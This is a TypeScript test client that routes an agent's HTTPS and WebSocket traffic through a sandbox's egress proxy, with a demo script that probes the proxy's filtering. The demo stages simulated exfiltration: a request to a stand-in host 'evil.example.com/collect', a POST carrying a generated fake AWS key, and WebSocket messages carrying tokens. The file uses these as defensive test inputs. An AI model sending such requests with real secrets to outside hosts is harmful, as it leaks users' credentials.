// Runs INSIDE a cage's agent container (bundled with esbuild, run by node): an HTTP(S) and
// WebSocket client that goes through the cage's proxy the way ordinary agent tools do (HTTPS_PROXY,
// CONNECT, the cage CA from NODE_EXTRA_CA_CERTS), for the e2e tests and the demo's scripted agent.
//   node agent-client.mjs request METHOD URL [HEADER:VALUE ...] [--body TEXT]
//   node agent-client.mjs ws URL MESSAGE...
//   node agent-client.mjs demo
// Prints one JSON object per result on stdout; never throws on a refused request (that is data).
import { lookup } from 'node:dns/promises';
import { readFileSync } from 'node:fs';
import http from 'node:http';
import tls from 'node:tls';
import WebSocket from 'ws';

export interface Reply {
  status: number;
  body: string;
  error?: string;
}

function proxyAddress(): { host: string; port: number } {
  const p = new URL(process.env.HTTPS_PROXY ?? process.env.https_proxy ?? 'http://127.0.0.1:3128');
  return { host: p.hostname, port: Number(p.port || 80) };
}

function caBundle(): string | undefined {
  const f = process.env.NODE_EXTRA_CA_CERTS ?? process.env.SSL_CERT_FILE;
  return f ? readFileSync(f, 'utf8') : undefined;
}

type Tunnel = { socket: tls.TLSSocket } | { refused: Reply };

/** CONNECT host:port through the proxy, then TLS verified against the cage CA. */
export function tunnel(host: string, port: number): Promise<Tunnel> {
  const proxy = proxyAddress();
  return new Promise((resolve, reject) => {
    const req = http.request({
      ...proxy,
      method: 'CONNECT',
      path: `${host}:${port}`,
      headers: { host: `${host}:${port}` },
    });
    req.setTimeout(10_000, () => req.destroy(new Error('CONNECT timed out')));
    req.once('connect', (res, socket, head) => {
      if (res.statusCode !== 200) {
        let body = head.toString();
        socket.on('data', (d: Buffer) => (body += d.toString()));
        socket.once('close', () => resolve({ refused: { status: res.statusCode ?? 0, body } }));
        socket.setTimeout(1000, () => socket.destroy());
        return;
      }
      const t = tls.connect({ socket, servername: host, ca: caBundle() }, () => resolve({ socket: t }));
      t.once('error', reject);
    });
    req.once('error', reject);
    req.end();
  });
}

export async function request(
  method: string,
  url: string,
  headers: Record<string, string> = {},
  body?: string,
): Promise<Reply> {
  const u = new URL(url);
  try {
    const t = await tunnel(u.hostname, Number(u.port || 443));
    if ('refused' in t) return t.refused;
    return await new Promise<Reply>((resolve, reject) => {
      const req = http.request({
        createConnection: () => t.socket,
        method,
        path: u.pathname + u.search,
        headers: { host: u.host, connection: 'close', ...headers },
      });
      req.setTimeout(15_000, () => req.destroy(new Error('request timed out')));
      req.once('response', (res) => {
        let b = '';
        res.on('data', (d: Buffer) => (b += d.toString()));
        res.once('end', () => resolve({ status: res.statusCode ?? 0, body: b }));
      });
      req.once('error', reject);
      req.end(body);
    });
  } catch (e) {
    return { status: 0, body: '', error: (e as NodeJS.ErrnoException).code ?? (e as Error).message };
  }
}

export interface WsResult {
  opened: boolean;
  received: string[];
  closed?: { code: number; reason: string };
  error?: string;
}

/** Opens wss:// through the proxy, sends each message in turn and collects what comes back. */
export async function websocket(url: string, messages: string[]): Promise<WsResult> {
  const u = new URL(url);
  const out: WsResult = { opened: false, received: [] };
  let t: Tunnel;
  try {
    t = await tunnel(u.hostname, Number(u.port || 443));
  } catch (e) {
    return { ...out, error: (e as Error).message };
  }
  if ('refused' in t) return { ...out, error: `CONNECT refused: ${t.refused.status} ${t.refused.body}` };
  const socket = t.socket;
  return new Promise((resolve) => {
    const ws = new WebSocket(url, { createConnection: () => socket });
    const finish = () => {
      clearTimeout(timer);
      resolve(out);
    };
    const timer = setTimeout(() => {
      ws.terminate();
      finish();
    }, 10_000);
    let i = 0;
    let lastSent = 0;
    const next = () => {
      lastSent = Date.now();
      if (i < messages.length) ws.send(messages[i++]);
      else ws.close(1000, 'done');
    };
    ws.on('open', () => {
      out.opened = true;
      next();
    });
    ws.on('message', (d) => {
      out.received.push(d.toString());
      next();
    });
    ws.on('close', (code, reason) => {
      out.closed = { code, reason: reason.toString() };
      finish();
    });
    ws.on('error', (e) => {
      out.error = e.message;
    });
    // A frame the proxy drops gets no echo: move on after a while rather than wait forever.
    setInterval(() => {
      if (out.opened && ws.readyState === WebSocket.OPEN && Date.now() - lastSent >= 2000) next();
    }, 500).unref();
  });
}

/** A fresh fake AWS access key id each run (never a documented example a detector may allowlist). */
export function fakeAwsKey(): string {
  const abc = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  let k = 'AKIA';
  for (let i = 0; i < 16; i++) k += abc[Math.floor(Math.random() * abc.length)];
  return k;
}

async function demo(): Promise<void> {
  const key = process.env.API_KEY ?? '';
  const say = (step: string, r: unknown) => console.log(JSON.stringify({ step, ...(r as object) }));
  say(
    'allowed API call with the placeholder',
    await request(
      'POST',
      'https://api.example.test/v1/messages',
      { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
      '{"prompt":"hello"}',
    ),
  );
  let answer: string;
  try {
    answer = (await lookup('evil.example.com')).address;
  } catch (e) {
    answer = (e as NodeJS.ErrnoException).code ?? String(e);
  }
  say('DNS for a name not on the allowlist', { status: 0, body: `evil.example.com resolves to ${answer}` });
  say('blocked domain', await request('GET', 'https://evil.example.com/collect'));
  say(
    'exfiltration attempt (AWS key in a POST body)',
    await request(
      'POST',
      'https://api.example.test/v1/upload',
      { 'content-type': 'text/plain' },
      `aws_access_key_id=${fakeAwsKey()}\n`,
    ),
  );
  say('upstream answers with a real secret', await request('GET', 'https://api.example.test/leak'));
  say(
    'WebSocket exchange',
    await websocket('wss://api.example.test/ws', [
      'hello from the agent',
      `token ${key}`,
      `key ${fakeAwsKey()}`,
    ]),
  );
}

async function main(argv: string[]): Promise<void> {
  const [cmd, ...rest] = argv;
  if (cmd === 'request') {
    const [method, url, ...more] = rest;
    const headers: Record<string, string> = {};
    let body: string | undefined;
    for (let i = 0; i < more.length; i++) {
      if (more[i] === '--body') body = more[++i];
      else {
        const c = more[i].indexOf(':');
        headers[more[i].slice(0, c).trim()] = more[i].slice(c + 1).trim();
      }
    }
    console.log(JSON.stringify(await request(method, url, headers, body)));
  } else if (cmd === 'ws') {
    console.log(JSON.stringify(await websocket(rest[0], rest.slice(1))));
  } else if (cmd === 'demo') {
    await demo();
  } else {
    console.error('usage: agent-client request METHOD URL [H:V ...] [--body TEXT] | ws URL MSG... | demo');
    process.exitCode = 2;
  }
  // Interval timers above are unref'd; let pending sockets close.
}

if (process.argv[1]?.endsWith('agent-client.mjs')) await main(process.argv.slice(2));
